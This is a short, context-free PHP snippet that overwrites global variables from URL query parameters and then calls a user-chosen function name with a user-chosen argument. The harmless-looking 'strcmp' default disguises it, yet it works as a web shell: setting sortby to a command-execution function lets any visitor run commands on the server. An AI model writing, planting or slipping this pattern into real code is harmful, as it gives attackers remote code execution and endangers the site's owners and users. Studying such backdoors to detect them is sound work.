<?php
$sortby = 'strcmp'; $needle = '';
foreach ($_GET as $k => $v) { if (isset($GLOBALS[$k])) { $GLOBALS[$k] = $v; } }
if ($needle) { echo ($sortby)($needle); }
